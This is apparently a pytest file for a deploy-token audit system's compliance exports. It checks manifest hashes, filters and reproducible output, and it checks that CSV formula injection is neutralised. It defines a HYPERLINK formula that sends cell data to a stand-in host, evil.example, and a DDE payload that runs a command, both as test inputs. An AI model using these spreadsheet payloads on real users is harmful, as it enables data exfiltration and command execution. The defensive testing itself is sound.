"""Compliance exports: streamed, reproducible, with a manifest whose SHA-256 matches the content."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path

from api.app import create_app
from cli.main import build_parser, cmd_export
from deploy_tokens.exports import PAGE, Export, ExportRequest
from deploy_tokens.runtime import Runtime
from infrastructure.activity import ActivityEvent

from ..conftest import World


def _world_with_activity(world: World) -> tuple[World, int, int]:
    runtime = world.runtime
    first = runtime.tokens.create_token(
        world.admin, "project", world.project, name="a", scopes=["read_repository"]
    ).token
    second = runtime.tokens.create_token(
        world.admin, "group", world.top, name="b", scopes=["read_registry"]
    ).token
    runtime.tokens.revoke_token(world.admin, "project", world.project, first.token_id)
    for number in range(7):
        token = first if number % 2 else second
        runtime.activity.record(
            ActivityEvent(
                occurred_at=datetime(2026, 1, 10, 12, number, tzinfo=UTC),
                token_id=token.token_id,
                token_ref=None,
                endpoint="auth_request",
                action="git_read",
                resource_kind="project",
                resource_ref="acme/api",
                allowed=bool(number % 3),
                reason="allowed" if number % 3 else "revoked",
                status=200,
                client_addr="192.0.2.9",
                user_agent="git/2.39",
            )
        )
    runtime.activity.flush()
    return world, first.token_id, second.token_id


def _run(runtime: Runtime, request: ExportRequest) -> tuple[bytes, Export]:
    export = Export(runtime.db, request, runtime.keys.chain_key)
    content = b"".join(export.chunks())
    return content, export


def test_manifest_hash_and_count_match_the_content(runtime: Runtime, world: World):
    _world_with_activity(world)
    content, export = _run(runtime, ExportRequest("usage", "csv"))
    manifest = export.manifest
    assert manifest.sha256 == hashlib.sha256(content).hexdigest()
    assert manifest.bytes == len(content)
    rows = list(csv.reader(io.StringIO(content.decode())))
    assert rows[0][:3] == ["id", "occurred_at", "token_id"]
    assert manifest.rows == len(rows) - 1 == 7
    assert manifest.chain_head["position"] == runtime.store.head()


def test_re_running_with_the_manifest_bound_gives_the_same_bytes(runtime: Runtime, world: World):
    world, _, _ = _world_with_activity(world)
    content, export = _run(runtime, ExportRequest("lifecycle", "jsonl"))
    runtime.directory.create_group(world.admin, name="Z", path="z")
    again, _ = _run(runtime, ExportRequest("lifecycle", "jsonl", upto=export.manifest.upto))
    assert again == content
    grown, _ = _run(runtime, ExportRequest("lifecycle", "jsonl"))
    assert grown != content


def test_filters_by_token_and_namespace(runtime: Runtime, world: World):
    world, first, second = _world_with_activity(world)
    content, export = _run(runtime, ExportRequest("usage", "jsonl", token_id=first))
    rows = [json.loads(line) for line in content.decode().splitlines()]
    assert {row["token_id"] for row in rows} == {first} and export.manifest.rows == 3
    by_group, _ = _run(
        runtime, ExportRequest("usage", "jsonl", namespace_kind="group", namespace_id=world.top)
    )
    assert {json.loads(line)["token_id"] for line in by_group.decode().splitlines()} == {second}
    lifecycle, _ = _run(runtime, ExportRequest("lifecycle", "jsonl", token_id=first))
    types = [json.loads(line)["event_type"] for line in lifecycle.decode().splitlines()]
    assert types == ["deploy_token_created", "deploy_token_scoped", "deploy_token_revoked"]


def test_time_range_is_half_open(runtime: Runtime, world: World):
    _world_with_activity(world)
    request = ExportRequest(
        "usage",
        "jsonl",
        since=datetime(2026, 1, 10, 12, 2, tzinfo=UTC),
        until=datetime(2026, 1, 10, 12, 5, tzinfo=UTC),
    )
    content, export = _run(runtime, request)
    minutes = [json.loads(line)["occurred_at"][14:16] for line in content.decode().splitlines()]
    assert minutes == ["02", "03", "04"]
    assert export.manifest.filters["since"].startswith("2026-01-10T12:02")


def test_exports_hold_no_token_values(runtime: Runtime, world: World):
    value = runtime.tokens.create_token(
        world.admin, "project", world.project, name="s", scopes=["read_repository"]
    ).value
    for dataset in ("lifecycle", "usage"):
        for kind in ("csv", "jsonl"):
            content, _ = _run(runtime, ExportRequest(dataset, kind))  # type: ignore[arg-type]
            assert value.encode() not in content


def test_set_aside_activity_rows_are_exported_for_auditors(runtime: Runtime, world: World):
    _, first, _ = _world_with_activity(world)
    unwritable = ActivityEvent(
        occurred_at=datetime(2026, 1, 10, 13, 0, tzinfo=UTC),
        token_id=2**63,  # beyond BIGINT: this row cannot be stored as it is
        token_ref=None,
        endpoint="auth_request",
        action="git_read",
        resource_kind="project",
        resource_ref="acme/api",
        allowed=False,
        reason="unknown_token",
        status=401,
        client_addr="192.0.2.9",
        user_agent="git/2.39",
    )
    runtime.activity.record(unwritable)
    runtime.activity.flush()
    content, export = _run(runtime, ExportRequest("usage_set_aside", "jsonl"))
    rows = [json.loads(line) for line in content.decode().splitlines()]
    assert export.manifest.rows == 1
    assert [sorted(row) for row in rows] == [["error", "id", "row_json", "set_aside_at"]]
    assert json.loads(rows[0]["row_json"])["token_id"] == 2**63
    try:
        Export(runtime.db, ExportRequest("usage_set_aside", token_id=first), runtime.keys.chain_key)
    except ValueError as error:
        assert "time only" in str(error)
    else:
        raise AssertionError("a token filter on set-aside rows must be refused")


# CSV cells a spreadsheet could run (docs/auditing.md, "Export for compliance") -------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DDE = "+cmd|' /C calc'!A0"


def _recovered(cell: str) -> str:
    """The documented way back to the stored value: one or more quotes before a trigger lose the first."""
    return cell[1:] if re.match(r"'+[=+\-@\t\r]", cell) else cell


def _csv_rows(content: bytes) -> list[dict[str, str]]:
    # newline="": a cell may hold a carriage return, which the csv module must see as it was written
    return list(csv.DictReader(io.StringIO(content.decode(), newline="")))


def _names_in_lifecycle_csv(world: World, names: list[str]) -> dict[str, str]:
    """Each token name as its ``deploy_token_created`` row's ``target_name`` cell, by the name it was given."""
    runtime = world.runtime
    ids = {
        runtime.tokens.create_token(
            world.admin, "project", world.project, name=name, scopes=["read_repository"]
        ).token.token_id: name
        for name in names
    }
    content, _ = _run(runtime, ExportRequest("lifecycle", "csv"))
    return {
        ids[int(row["target_id"])]: row["target_name"]
        for row in _csv_rows(content)
        if row["event_type"] == "deploy_token_created"
    }


def test_formulas_in_a_token_name_are_not_live_in_the_lifecycle_csv(runtime: Runtime, world: World):
    cells = _names_in_lifecycle_csv(world, [HYPERLINK, DDE])
    assert cells == {HYPERLINK: "'" + HYPERLINK, DDE: "'" + DDE}


def test_only_a_cell_beginning_with_a_formula_trigger_changes(runtime: Runtime, world: World):
    # Tab and carriage return cannot reach a token name (the domain refuses control characters): see
    # tests/unit/test_csv_cells.py for them.
    names = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "a=1+1", "x" + HYPERLINK, " " + DDE]
    cells = _names_in_lifecycle_csv(world, names)
    assert cells == {
        "=1+1": "'=1+1",
        "+1+1": "'+1+1",
        "-1+1": "'-1+1",
        "@SUM(A1)": "'@SUM(A1)",
        "a=1+1": "a=1+1",
        "x" + HYPERLINK: "x" + HYPERLINK,
        " " + DDE: " " + DDE,
    }


def test_the_documented_recovery_gives_back_every_name(runtime: Runtime, world: World):
    names = ["=1+1", "'=1+1", "''@x", "'quoted", "it's", "'"]
    cells = _names_in_lifecycle_csv(world, names)
    assert {name: _recovered(cell) for name, cell in cells.items()} == {name: name for name in names}


def test_numbers_booleans_and_timestamps_are_written_as_they_are(runtime: Runtime):
    runtime.activity.record(
        ActivityEvent(
            occurred_at=datetime(2026, 1, 10, 12, 0, tzinfo=UTC),
            token_id=7,
            token_ref=None,
            endpoint="auth_request",
            action="git_read",
            resource_kind="project",
            resource_ref="acme/api",
            allowed=False,
            reason="revoked",
            status=-1,  # a negative number is data, not a formula
            client_addr="192.0.2.9",
            user_agent="-1+1",
        )
    )
    runtime.activity.flush()
    content, _ = _run(runtime, ExportRequest("usage", "csv"))
    [row] = _csv_rows(content)
    assert (row["id"], row["token_id"], row["status"], row["allowed"]) == ("1", "7", "-1", "false")
    assert row["occurred_at"] == "2026-01-10T12:00:00.000000+00:00"
    assert row["user_agent"] == "'-1+1"


def test_jsonl_holds_the_value_the_csv_neutralises(runtime: Runtime, world: World):
    token_id = runtime.tokens.create_token(
        world.admin, "project", world.project, name=HYPERLINK, scopes=["read_repository"]
    ).token.token_id
    as_csv, _ = _run(runtime, ExportRequest("lifecycle", "csv", token_id=token_id))
    as_jsonl, _ = _run(runtime, ExportRequest("lifecycle", "jsonl", token_id=token_id))
    csv_names = [row["target_name"] for row in _csv_rows(as_csv)]
    jsonl_names = [json.loads(line)["target_name"] for line in as_jsonl.decode().splitlines()]
    assert jsonl_names == [HYPERLINK, HYPERLINK]
    assert csv_names == ["'" + HYPERLINK, "'" + HYPERLINK]


def test_the_cli_manifest_covers_the_csv_bytes_as_written(runtime: Runtime, world: World, tmp_path: Path):
    runtime.tokens.create_token(world.admin, "project", world.project, name=DDE, scopes=["read_repository"])
    output = tmp_path / "lifecycle.csv"
    args = build_parser().parse_args(
        ["export", "--dataset", "lifecycle", "--format", "csv", "--output", str(output)]
    )
    assert cmd_export(runtime, args) == 0
    written = output.read_bytes()
    manifest = json.loads((tmp_path / "lifecycle.csv.manifest.json").read_text())
    assert manifest["sha256"] == hashlib.sha256(written).hexdigest()
    assert manifest["bytes"] == len(written)
    assert ("'" + DDE) in {row["target_name"] for row in _csv_rows(written)}


def test_the_cli_exports_the_lifecycle_of_one_actor_and_one_event_type(
    runtime: Runtime, world: World, tmp_path: Path
):
    created = runtime.tokens.create_token(
        world.admin, "project", world.project, name="t", scopes=["read_repository"]
    )
    runtime.tokens.revoke_token(world.admin, "project", world.project, created.token.token_id)
    output = tmp_path / "revoked.jsonl"
    argv = ["export", "--dataset", "lifecycle", "--output", str(output)]
    filters = ["--actor", world.admin.username or "", "--event-type", "deploy_token_revoked"]
    assert cmd_export(runtime, build_parser().parse_args([*argv, *filters])) == 0
    [row] = [json.loads(line) for line in output.read_text().splitlines()]
    assert (row["event_type"], row["target_id"]) == ("deploy_token_revoked", created.token.token_id)
    manifest = json.loads((tmp_path / "revoked.jsonl.manifest.json").read_text())
    assert manifest["filters"]["event_type"] == "deploy_token_revoked"
    # Only the lifecycle has actors and event types: anything else is refused before a byte is written.
    usage = ["export", "--dataset", "usage", "--output", str(tmp_path / "u.jsonl"), "--event-type", "x"]
    assert cmd_export(runtime, build_parser().parse_args(usage)) == 2
    assert not (tmp_path / "u.jsonl").exists()
    # A lone surrogate or a control character is no stored actor or type: refused, never a traceback.
    for flag in ("--actor", "--event-type"):
        for hostile in ("\udcff", "a\x00b", "deploy_token_revoked\n"):
            argv = ["export", "--dataset", "lifecycle", "--output", str(tmp_path / "h.jsonl"), flag, hostile]
            assert cmd_export(runtime, build_parser().parse_args(argv)) == 2, (flag, hostile)
    assert not (tmp_path / "h.jsonl").exists()


def test_the_audit_api_csv_export_is_neutralised(runtime: Runtime, world: World):
    runtime.tokens.create_token(
        world.admin, "project", world.project, name=HYPERLINK, scopes=["read_repository"]
    )
    client = create_app(runtime).test_client()
    admin = {"PRIVATE-TOKEN": world.admin_token}
    response = client.get("/api/v4/audit/exports/lifecycle.csv", headers=admin)
    assert response.status_code == 200
    body = response.get_data()
    names = {row["target_name"] for row in _csv_rows(body) if row["target_type"] == "DeployToken"}
    assert names == {"'" + HYPERLINK}
    manifest = client.get(
        "/api/v4/audit/exports/lifecycle.csv/manifest",
        query_string={"upto": response.headers["X-Export-Upto"]},
        headers=admin,
    ).get_json()
    assert manifest["sha256"] == hashlib.sha256(body).hexdigest()


def test_a_usage_export_of_many_pages_is_every_row_by_the_rules(runtime: Runtime):
    """Pages are written column by column; hostile cells on some pages, quoting on others, page boundaries:
    the file is still every row as the rules write it, and the manifest hashes it."""
    base = datetime(2026, 1, 1, tzinfo=UTC)
    agents = {1: HYPERLINK, PAGE - 1: "a, b", PAGE: 'say "hi"', PAGE + 1: "-1+1", 2 * PAGE + 3: "'=x"}
    rows = []
    for number in range(1, 2 * PAGE + 18):
        rows.append(
            ActivityEvent(
                occurred_at=base + timedelta(seconds=number, microseconds=number),
                token_id=number % 40 or None,
                token_ref=None if number % 40 else f"{number:012x}",
                endpoint="auth_request",
                action="git_read",
                resource_kind="project",
                resource_ref=f"acme/project-{number % 13}",
                allowed=number % 5 != 0,
                reason="allowed" if number % 5 else "revoked",
                status=200 if number % 5 else 401,
                client_addr=None if number % 11 == 0 else f"192.0.2.{number % 200}",
                user_agent=agents.get(number, "git/2.39"),
            )
        )
    with runtime.db.transaction() as cursor:
        cursor.executemany(
            f"INSERT INTO token_activity ({', '.join(ActivityEvent._fields)}) VALUES ({', '.join('?' * 12)})",
            rows,
        )

    def cell(value: object) -> str:
        if value is None:
            return ""
        if isinstance(value, bool):
            return "true" if value else "false"
        if isinstance(value, int):
            return str(value)
        if isinstance(value, datetime):
            return value.astimezone(UTC).isoformat(timespec="microseconds")
        text = str(value)
        first = text.lstrip("'")[:1]
        return "'" + text if first and first in "=+-@\t\r" else text

    expected = io.StringIO()
    writer = csv.writer(expected, lineterminator="\n")
    writer.writerow(["id", *ActivityEvent._fields])
    writer.writerows([[str(number), *map(cell, row)] for number, row in enumerate(rows, start=1)])
    content, export = _run(runtime, ExportRequest("usage", "csv"))
    assert content.decode() == expected.getvalue()
    assert export.manifest.rows == len(rows) and export.manifest.sha256 == hashlib.sha256(content).hexdigest()
    as_jsonl, _ = _run(runtime, ExportRequest("usage", "jsonl"))
    records = [json.loads(line) for line in as_jsonl.decode().splitlines()]
    assert [record["user_agent"] for record in records] == [row.user_agent for row in rows]
    assert records[PAGE]["occurred_at"] == cell(rows[PAGE].occurred_at)
